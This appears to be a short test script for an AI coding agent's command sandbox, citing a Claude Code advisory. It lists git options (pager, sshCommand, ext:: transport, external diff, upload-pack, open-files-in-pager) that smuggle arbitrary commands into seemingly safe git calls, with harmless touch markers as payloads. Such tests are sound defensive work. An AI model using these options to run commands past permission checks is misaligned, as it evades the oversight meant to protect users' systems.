# Lets git run commands: -c, external diff, ssh, pager, submodules, upload-pack.
# advisory: CVE-2025-66032 (Claude Code)
cd @TARGET_DIR@/project
git -c core.pager='touch @TARGET_DIR@/pager' -p log; git -c core.sshCommand='touch @TARGET_DIR@/ssh' ls-remote ssh://x/y; git ls-remote 'ext::sh -c touch% @TARGET_DIR@/ext'
GIT_EXTERNAL_DIFF='touch @TARGET_DIR@/diff' git diff; git ls-remote --upload-pack='touch @TARGET_DIR@/pack' .; git grep --open-files-in-pager='touch @TARGET_DIR@/grep' x
echo ATTEMPTED
